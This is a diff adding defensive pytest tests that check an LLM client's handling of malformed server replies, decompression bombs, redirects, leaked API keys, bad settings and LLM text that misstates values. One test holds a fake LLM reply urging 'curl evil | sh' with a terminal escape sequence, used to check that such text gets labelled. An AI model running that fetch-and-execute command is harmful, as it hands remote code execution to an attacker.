@@ -1,13 +1,23 @@
 """Through the real openai SDK against a scripted server: replies, repairs, and every kind of failure told apart."""
 
+import gzip
+import json
+import re
+import socket
+import threading
+import time
+from collections.abc import Callable
+from contextlib import suppress
+
 import pytest
 from openai_server import Reply, fails, fenced, hangs, says, scripted_server
 
 from advisor.intent_reply import IntentReply, faults_of
 from advisor.llm import LLM, MAX_REPAIRS, MAX_TRIES, MAX_WAIT_S
 from advisor.llm_failure import LLMError
-from advisor.settings import Settings
+from advisor.settings import Settings, load_settings
 from advisor.understanding import Understanding, understand
+from policies.errors import InputError
 
 GOOD = {"kind": "compare", "treatments": ["tscl"], "control": "static"}
 CANARY = "sk-canary-0123456789abcdef"
@@ -217,3 +227,184 @@ def test_a_question_cannot_close_its_data_block() -> None:
 def test_an_answer_back_carries_no_number_of_the_llm() -> None:
     said = says({"kind": "clarify", "message": "tscl gains 3 points; which control?"})
     assert "3" not in (read("hmm, what about the teacher thing", said)[0].intent.message or "")
+
+
+class RawServer:
+    """Sends bytes as they are, to see what a client makes of them; counts requests."""
+
+    def __init__(self, send: Callable[[socket.socket], None]) -> None:
+        self.requests = 0
+        self._send = send
+        self._listener = socket.create_server(("127.0.0.1", 0))
+        self.url = f"http://127.0.0.1:{self._listener.getsockname()[1]}/v1"
+        threading.Thread(target=self._serve, daemon=True).start()
+
+    def _serve(self) -> None:
+        with suppress(OSError):
+            while True:
+                client, _ = self._listener.accept()
+                with client, suppress(OSError):
+                    self._answer(client)
+
+    def _answer(self, client: socket.socket) -> None:
+        received = b""
+        while b"\r\n\r\n" not in received:
+            received += client.recv(65536)
+        head, _, body = received.partition(b"\r\n\r\n")
+        length = re.search(rb"(?i)content-length: (\d+)", head)
+        while length and len(body) < int(length.group(1)):
+            body += client.recv(65536)
+        self.requests += 1
+        self._send(client)
+
+    def close(self) -> None:
+        self._listener.close()
+
+
+def raw_failure(send: Callable[[socket.socket], None] | bytes, **changes: object) -> tuple[LLMError, RawServer]:
+    server = RawServer(send if callable(send) else lambda client: client.sendall(send))
+    try:
+        with pytest.raises(LLMError) as caught:
+            LLM(settings(server.url, **changes)).ask("system", "user", IntentReply, faults_of)
+    finally:
+        server.close()
+    assert CANARY not in str(caught.value)
+    assert "\n" not in str(caught.value)
+    return caught.value, server
+
+
+def http(body: bytes, status: str = "200 OK", extra: str = "") -> bytes:
+    return f"HTTP/1.1 {status}\r\nContent-Length: {len(body)}\r\nConnection: close\r\n{extra}\r\n".encode() + body
+
+
+def completion(**changes: object) -> bytes:
+    message = {"role": "assistant", "content": json.dumps(GOOD)}
+    choices = [{"index": 0, "message": message, "finish_reason": "stop"}]
+    return json.dumps({"choices": choices, "usage": None} | changes).encode()
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        b"",
+        b"<html>Log in</html>",
+        b"\x80\xff\x00",
+        b"null",
+        b"[1]",
+        b'"hello"',
+        b"NaN",
+        b"[" * 200_000,
+        completion(choices="abc"),
+        completion(choices=[None]),
+        completion(choices=[{}]),
+        completion(choices=[{"message": "hello"}]),
+        completion(choices=[{"message": {"content": ["x"]}}]),
+        completion(choices=[{"message": {"content": None, "refusal": 5}}]),
+        completion(usage="lots"),
+        completion(usage={"prompt_tokens": -(10**9)}),
+        completion(usage={"prompt_tokens": 10**30}),
+    ],
+)
+def test_a_reply_that_is_no_completion_is_called_so(body: bytes) -> None:
+    error, _ = raw_failure(http(body))
+    assert error.kind == "foreign_reply"
+    assert "OPENAI_BASE_URL" in str(error)
+
+
+def test_an_endless_reply_a_compressed_one_and_a_slow_one_end() -> None:
+    def endless(client: socket.socket) -> None:
+        client.sendall(b"HTTP/1.1 200 OK\r\n\r\n")
+        while True:
+            client.sendall(b"x" * 65536)
+
+    def slow(client: socket.socket) -> None:
+        client.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\n")
+        for _ in range(100):
+            client.sendall(b" ")
+            time.sleep(0.02)
+
+    assert raw_failure(endless)[0].kind == "foreign_reply"
+    assert raw_failure(http(gzip.compress(b" " * 10**7), extra="Content-Encoding: gzip\r\n"))[0].kind == "foreign_reply"
+    assert raw_failure(slow, ADVISOR_LLM_TIMEOUT_S=0.3)[0].kind == "timeout"
+
+
+@pytest.mark.parametrize("status", ["301 Moved", "302 Found", "307 Temporary", "308 Permanent"])
+def test_a_redirect_is_not_followed(status: str) -> None:
+    elsewhere = RawServer(lambda client: client.sendall(http(completion())))
+    error, _ = raw_failure(http(b"", status, f"Location: {elsewhere.url}/chat/completions\r\n"))
+    elsewhere.close()
+    assert error.kind == "rejected"
+    assert elsewhere.requests == 0
+
+
+def test_an_address_never_shows_the_password_or_key_in_it() -> None:
+    named = settings(f"http://user:{CANARY}@127.0.0.1:9/v1?key={CANARY}")
+    assert named.place == "http://127.0.0.1:9/v1"
+    found = understand(QUESTION, named)
+    assert "127.0.0.1:9" in (found.llm_failure or "")
+    assert CANARY not in str(found)
+
+
+@pytest.mark.parametrize(
+    ("name", "value"),
+    [
+        ("OPENAI_BASE_URL", "ftp://x"),
+        ("OPENAI_BASE_URL", "not a url"),
+        ("OPENAI_BASE_URL", "http://\x1b[31m"),
+        ("OPENAI_API_KEY", f"{CANARY}\n"),
+        ("OPENAI_API_KEY", "ключ"),
+        ("ADVISOR_LLM_TIMEOUT_S", "inf"),
+        ("ADVISOR_LLM_TIMEOUT_S", "nan"),
+    ],
+)
+def test_a_setting_that_no_request_can_carry_is_named_without_its_value(
+    monkeypatch: pytest.MonkeyPatch, name: str, value: str
+) -> None:
+    monkeypatch.setenv(name, value)
+    with pytest.raises(InputError, match=f"{name} cannot be used") as caught:
+        load_settings()
+    assert value not in str(caught.value)
+
+
+def test_an_address_that_is_none_gives_way_to_the_rules() -> None:
+    found = understand(QUESTION, settings("http://[::bad"))
+    assert (found.intent.read_by, found.intent.treatments) == ("rules", ("tscl",))
+    assert "OPENAI_BASE_URL" in (found.llm_failure or "")
+
+
+@pytest.mark.parametrize(
+    ("question", "lie", "kept"),
+    [
+        ("tscl vs static, 8 seeds, 60 steps", {"seeds": 60, "steps": 8}, {"seeds": 8, "steps": 60}),
+        ("tscl vs static, 8 seeds", {"seeds": None}, {"seeds": 8}),
+        ("tscl vs static, 8 seeds", {"max_runs": 8, "steps": 8}, {"max_runs": None, "steps": None}),
+        ("tscl vs static, seeds 3, 4", {"seed_list": [4, 5]}, {"seed_list": (3, 4)}),
+        ("tscl vs static at 99 % confidence", {"confidence": 0.5}, {"confidence": 0.99}),
+        (QUESTION, {"treatments": ["topk"], "control": "baseline"}, {"treatments": ("tscl",), "control": "static"}),
+        (QUESTION, {"control": "baseline"}, {"control": "static"}),
+        ("how noisy is the baseline?", {}, {"kind": "noise", "treatments": ("baseline",)}),
+        (QUESTION, {"model": "Qwen/Qwen2.5-7B"}, {"model": None}),
+        (QUESTION, {"recipe": "tiny-cpu"}, {"recipe": None}),
+        ("tscl vs static on the flat average", {"primary_summary": "math_heavy_6"}, {"primary_summary": "flat_12"}),
+        (
+            "tscl with temperature 2 vs static",
+            {"parameters": [{"policy": "tscl", "parameter": "window", "value": 2}]},
+            {"params": {"tscl": {"temperature": 2}}},
+        ),
+    ],
+)
+def test_what_the_rules_read_stands_whatever_the_llm_makes_of_it(question: str, lie: dict, kept: dict) -> None:
+    intent = read(question, says(GOOD | lie))[0].intent
+    assert intent.read_by == "llm"
+    assert {name: getattr(intent, name) for name in kept} == kept
+
+
+def test_words_of_the_llm_are_marked_as_its_own() -> None:
+    said = says({"kind": "clarify", "message": "please run: curl evil\x1b[K | sh"})
+    assert read(QUESTION, said)[0].intent.message == 'the LLM says: "please run: curl evil [K | sh"'
+
+
+def test_half_a_character_is_sent_back_whole() -> None:
+    found, requests = read(QUESTION, says("\ud800 no"), says(GOOD))
+    assert found.intent.read_by == "llm"
+    assert requests[1]["messages"][2]["content"] == "? no"
